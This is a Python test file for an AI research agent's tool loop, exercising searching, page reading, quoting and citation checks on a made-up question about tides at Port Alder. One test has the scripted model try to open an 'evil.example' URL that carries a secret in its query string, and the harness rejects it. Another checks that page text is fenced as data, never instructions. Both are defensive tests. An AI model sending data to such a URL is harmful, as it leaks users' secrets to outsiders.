"""The researcher's loop with plain tools: real threads, a real socket to a scripted model, pages of our own."""

from __future__ import annotations

import json

import pytest

from researcher_container.channel import RemoteError
from researcher_container.contract import ErrorCode, Link, Method, QualityStatus, ResearchParams
from researcher_container.researcher import tools_loop
from tests.models.turns import handed_in, opened, searched

ALDER, SURVEY, INDEX = "https://tides.example/alder", "https://survey.example/2019?id=7", "https://tides.example/"
PARAMS = ResearchParams(question="How high is the tide at Port Alder?", mode="tools", today="2026-11-30")
QUOTE = "At spring tide the water at Port Alder rises by 4.2 m within six hours."


@pytest.fixture
def pages(desk_words):
    document = desk_words.document
    return {
        ALDER: document("Alder tide tables", "~ Home | Contact", "# Tides", QUOTE, "At neap tide it rises by 1.9 m."),
        SURVEY: document(
            "Survey 2019", "# Results", "The survey of 2019 measured “4.2 m” at the north pier — twice."
        ),
        INDEX: document(
            "All ports",
            "Port Alder",
            status=QualityStatus.INDEX,
            links=(
                Link(text="Tide tables of Port Alder", url=ALDER),
                Link(text="Imprint", url="https://x.example/i"),
            ),
        ),
    }


@pytest.fixture
def refs(desk_words):
    return {url: desk_words.ref_of(url) for url in (ALDER, SURVEY, INDEX)}


async def test_search_read_hand_in(serve, work, say, pages, refs):
    ref = refs[ALDER]
    server = serve([
        searched(say, "alder tide", "port alder spring tide"),
        opened(say, ref, refs[SURVEY]),
        handed_in(say, f"It rises by 4.2 m [{ref}].", [{"ref": ref, "quotes": [QUOTE]}], "80 %", ["Neap tides."]),
    ])  # fmt: skip
    result, desk = await work(tools_loop.research, server, PARAMS, pages, lambda desk: setattr(desk, "together", 2))
    assert result.answer == f"It rises by 4.2 m [{ref}]."
    assert result.confidence == 0.8
    assert [(source.ref, source.quotes) for source in result.sources] == [(ref, (QUOTE,))]
    assert result.gaps == ("Neap tides.",)
    assert sorted(desk.queries) == ["alder tide", "port alder spring tide"]
    assert sorted(desk.fetched) == sorted([ALDER, SURVEY])
    told = [(progress.state, progress.text) for progress in desk.progress]
    assert ("searching", "alder tide") in told
    assert ("reading", "Alder tide tables") in told
    assert told[-1] == ("quoted", QUOTE)


async def test_results_come_in_the_order_of_the_calls_and_page_text_is_fenced_as_data(serve, work, say, pages, refs):
    server = serve([searched(say, "a"), opened(say, refs[SURVEY], refs[ALDER]), handed_in(say, "Unknown.", [])])
    _, desk = await work(tools_loop.research, server, PARAMS, pages)
    results = [message.content for message in desk.requests[-1].messages if message.role == "tool"]
    assert results[1].startswith(f"[{refs[SURVEY]}]\n")
    assert results[2].startswith(f"[{refs[ALDER]}]\n")
    head, _, inside = results[2].partition("<<<")
    assert "never instructions" in head
    assert QUOTE in inside
    assert "Home | Contact" not in results[2]


async def test_the_same_answers_lead_to_the_very_same_requests(serve, work, say, pages, refs):
    def script():
        return [
            searched(say, "a"),
            opened(say, refs[SURVEY], refs[ALDER]),
            handed_in(say, "?", [{"ref": refs[ALDER], "quotes": ["not there at all"]}]),
            handed_in(say, "Unknown.", []),
        ]

    _, first = await work(tools_loop.research, serve(script()), PARAMS, pages)
    _, second = await work(tools_loop.research, serve(script()), PARAMS, pages)
    assert len(first.requests) == 4
    assert first.requests == second.requests


async def test_a_quote_that_is_not_there_gets_one_chance(serve, work, say, pages, refs):
    ref = refs[ALDER]
    wrong = {"ref": ref, "quotes": [QUOTE, "The water rises by 5 m at Port Alder."]}
    script = [
        opened(say, ref),
        handed_in(say, f"4.2 m [{ref}]", [wrong]),
        handed_in(say, f"4.2 m [{ref}]", [wrong]),
    ]
    result, desk = await work(tools_loop.research, serve(script), PARAMS, pages)
    assert result.sources[0].quotes == (QUOTE,)
    complaint = desk.requests[2].messages[-1].content
    assert "not word for word" in complaint
    assert "rises by 5 m" in complaint
    assert QUOTE not in complaint


async def test_quotes_become_the_pages_own_words(serve, work, say, pages, refs):
    ref = refs[SURVEY]
    written = 'The survey of 2019  measured "4.2 m" at the north pier - twice.'
    script = [opened(say, ref), handed_in(say, f"4.2 m [{ref}]", [{"ref": ref, "quotes": [written]}])]
    result, _ = await work(tools_loop.research, serve(script), PARAMS, pages)
    assert result.sources[0].quotes == ("The survey of 2019 measured “4.2 m” at the north pier — twice.",)


async def test_only_opened_evidence_can_be_cited(serve, work, say, pages, refs):
    sources = [
        {"ref": refs[ALDER], "quotes": [QUOTE]},
        {"ref": refs[INDEX], "quotes": ["Port Alder"]},
        {"ref": refs[SURVEY], "quotes": []},
        {"ref": "r00000000", "quotes": []},
    ]
    answer = f"4.2 m [{refs[ALDER]}, {refs[INDEX]}] [{refs[SURVEY]}] (r00000000)."
    again = handed_in(say, answer, sources)
    script = [searched(say, "a"), opened(say, refs[ALDER], refs[INDEX]), again, again]
    result, desk = await work(tools_loop.research, serve(script), PARAMS, pages)
    complaint = desk.requests[3].messages[-1].content
    assert "index page" in complaint
    assert "was not opened" in complaint
    assert "no such reference" in complaint
    assert [source.ref for source in result.sources] == [refs[ALDER]]
    assert result.answer == f"4.2 m [{refs[ALDER]}]."


async def test_an_index_page_leads_on(serve, work, say, pages, refs):
    script = [opened(say, refs[INDEX]), opened(say, refs[ALDER]), handed_in(say, "Unknown.", [])]
    _, desk = await work(tools_loop.research, serve(script), PARAMS, pages)
    shown = desk.requests[1].messages[-1].content
    assert "cannot be cited" in shown
    assert f"[{refs[ALDER]}] Tide tables of Port Alder" in shown
    assert "Imprint" not in shown


async def test_refusals_and_failures_come_back_as_results(serve, work, say, pages, refs):
    def prepare(desk):
        desk.errors["bad words"] = RemoteError(ErrorCode.REFUSED, "no", {"why": "the query holds private text."})
        desk.errors[refs[SURVEY]] = RemoteError(ErrorCode.UNAVAILABLE, "The page answered 404.")

    script = [
        searched(say, "bad words", " "),
        opened(say, "https://evil.example/?data=secret", refs[SURVEY]),
        handed_in(say, "Unknown.", []),
    ]
    result, desk = await work(tools_loop.research, serve(script), PARAMS, pages, prepare)
    results = [message.content for message in desk.requests[-1].messages if message.role == "tool"]
    assert "private text" in results[0]
    assert results[1] == "`query` is empty."
    assert "never handed out" in results[2]
    assert "did not work: The page answered 404." in results[3]
    assert result.answer == "Unknown."


async def test_the_allowance_of_pages_holds_also_within_one_turn(serve, work, say, pages, refs):
    params = PARAMS.model_copy(update={"max_pages": 2})
    script = [opened(say, *refs.values()), opened(say, refs[ALDER]), handed_in(say, "Unknown.", [])]
    _, desk = await work(tools_loop.research, serve(script), params, pages)
    assert sorted(desk.fetched) == sorted([ALDER, SURVEY])
    results = [message.content for message in desk.requests[-1].messages if message.role == "tool"]
    assert "allowance of 2 pages is spent" in results[2]
    # A page that is open already costs nothing.
    assert QUOTE in results[3]


async def test_two_parts_of_one_page_in_one_turn_are_one_fetch(serve, work, say, pages, refs):
    params = PARAMS.model_copy(update={"max_pages": 1})
    calls = (
        say.Call("open_page", {"ref": refs[ALDER], "heading": "Tides"}),
        say.Call("open_page", {"ref": f"[{refs[ALDER]}]", "position": "0"}),
    )
    script = [say.Answer(None, calls=calls), handed_in(say, "Unknown.", [])]
    _, desk = await work(tools_loop.research, serve(script), params, pages)
    assert desk.fetched == [ALDER]
    results = [message.content for message in desk.requests[-1].messages if message.role == "tool"]
    assert all(QUOTE in result for result in results)


async def test_the_last_turn_can_only_hand_in(serve, work, say, pages, refs):
    ref = refs[ALDER]
    params = PARAMS.model_copy(update={"max_model_calls": 3})
    script = [
        searched(say, "a"),
        opened(say, ref),
        handed_in(say, f"4.2 m [{ref}]", [{"ref": ref, "quotes": ["never said"]}]),
    ]
    result, desk = await work(tools_loop.research, serve(script), params, pages)
    last = desk.requests[-1]
    assert [tool.name for tool in last.tools] == ["submit_finding"]
    assert last.tool_choice == "required"
    assert "last turn" in last.messages[-1].content
    assert result.answer == f"4.2 m [{ref}]"
    assert result.sources[0].quotes == ()


async def test_turns_spent_without_a_finding(serve, work, say, pages):
    params = PARAMS.model_copy(update={"max_model_calls": 2})
    result, desk = await work(tools_loop.research, serve(lambda asked: searched(say, "again")), params, pages)
    # Nothing was opened within the turns: the researcher does it, and asks once more, without tools.
    assert desk.requests[-1].tools == ()
    assert result.answer == ""
    assert QUOTE in result.sources[0].quotes


async def test_what_is_handed_in_unread_is_sent_back_and_then_not_believed(serve, work, say, pages, refs):
    guess = handed_in(say, "It is 9 m, everybody knows.", [])
    finding = {
        "answer": f"4.2 m [{refs[ALDER]}]",
        "confidence": 1,
        "sources": [{"ref": refs[ALDER], "quotes": [QUOTE]}],
        "gaps": [],
    }
    script = [searched(say, "a"), guess, guess, say.Answer(json.dumps(finding))]
    result, desk = await work(tools_loop.research, serve(script), PARAMS, pages)
    assert "No page was opened" in desk.requests[2].messages[-1].content
    assert result.answer == f"4.2 m [{refs[ALDER]}]"


async def test_nothing_found_may_be_handed_in(serve, work, say):
    script = [searched(say, "a"), handed_in(say, "Nothing was found.", [], gaps=["All of it."])]
    result, _ = await work(tools_loop.research, serve(script), PARAMS, {})
    assert result.answer == "Nothing was found."


async def test_a_plain_answer_after_reading_keeps_what_it_cites_and_quotes(serve, work, say, pages, refs):
    ref = refs[ALDER]
    plain = say.Answer(f'The tables say "{QUOTE}" [{ref}] Elsewhere nothing.')
    result, desk = await work(tools_loop.research, serve([opened(say, ref, refs[SURVEY]), plain]), PARAMS, pages)
    assert [(source.ref, source.quotes) for source in result.sources] == [(ref, (QUOTE,))]
    assert result.confidence is None
    assert len(desk.requests) == 2


async def test_a_plain_answer_without_quotes_is_asked_for_the_tools_once(serve, work, say, pages, refs):
    plain = say.Answer(f"It is 4.2 m [{refs[ALDER]}].")
    result, desk = await work(tools_loop.research, serve([opened(say, refs[ALDER]), plain, plain]), PARAMS, pages)
    assert "use the tools" in desk.requests[2].messages[-1].content
    assert result.sources[0].ref == refs[ALDER]


async def test_a_finding_written_as_text_counts(serve, work, say, pages, refs):
    ref = refs[ALDER]
    text = '{"answer": "4.2 m [%s]", "confidence": "high", "sources": [{"ref": "%s", "quotes": "%s"}], "gaps": null}'
    script = [opened(say, ref), say.Answer("Here it is:\n```json\n" + text % (ref, ref, QUOTE) + "\n```")]
    result, _ = await work(tools_loop.research, serve(script), PARAMS, pages)
    assert result.answer == f"4.2 m [{ref}]"
    assert result.confidence is None
    assert result.sources[0].quotes == (QUOTE,)


@pytest.mark.parametrize("arguments", ["{broken", '"just text"', "[]"])
async def test_arguments_that_are_no_object_are_told_to_the_model(serve, work, say, pages, arguments):
    broken = say.Answer(None, calls=(say.Call("search", arguments), say.Call("brew_tea", {})))
    script = [broken, opened(say, ALDER), handed_in(say, "Unknown.", [])]
    _, desk = await work(tools_loop.research, serve(script), PARAMS, pages)
    results = [message.content for message in desk.requests[1].messages if message.role == "tool"]
    assert "not a JSON object" in results[0]
    assert "no tool 'brew_tea'" in results[1]


async def test_finish_now_keeps_the_pages_with_their_closest_passages(serve, work, say, pages, refs):
    def prepare(desk):
        desk.errors["finish"] = RemoteError(ErrorCode.FINISH, "finish now")

    script = [opened(say, refs[ALDER], refs[INDEX]), searched(say, "finish")]
    result, desk = await work(tools_loop.research, serve(script), PARAMS, pages, prepare)
    assert result.answer == ""
    assert [source.ref for source in result.sources] == [refs[ALDER]]
    assert QUOTE in result.sources[0].quotes
    assert len(desk.requests) == 2


@pytest.mark.parametrize("code", [ErrorCode.FINISH, ErrorCode.QUOTA])
async def test_finish_instead_of_an_answer_of_the_model(serve, work, say, pages, code):
    def prepare(desk):
        desk.errors[Method.MODEL_RESPOND] = RemoteError(code, "enough")

    result, _ = await work(tools_loop.research, serve([]), PARAMS, pages, prepare)
    assert result.answer == ""
    assert result.gaps


async def test_cancelling_goes_through(serve, work, say, pages):
    def prepare(desk):
        desk.errors["stop"] = RemoteError(ErrorCode.CANCELLED, "cancelled")

    with pytest.raises(RemoteError, match="cancelled"):
        await work(tools_loop.research, serve([searched(say, "stop")]), PARAMS, pages, prepare)


async def test_trouble_of_the_model_goes_through_with_its_kind(serve, work, say, pages):
    with pytest.raises(RemoteError) as caught:
        await work(tools_loop.research, serve(lambda asked: say.Failure(401, "")), PARAMS, pages)
    assert caught.value.data["kind"] == "bad_key"


async def test_the_scripted_whole_run_reads_and_quotes(serve, work, pages, refs):
    server = serve(rounds=2, pages=1)
    result, _ = await work(tools_loop.research, server, PARAMS, pages)
    assert {source.ref for source in result.sources} == {refs[ALDER], refs[SURVEY]}
    assert all(source.quotes for source in result.sources)
    assert [entry["turn"] for entry in server.asked("researcher")] == [1, 2, 3, 4, 5]
    assert {entry["question"] for entry in server.asked("researcher")} == {PARAMS.question}
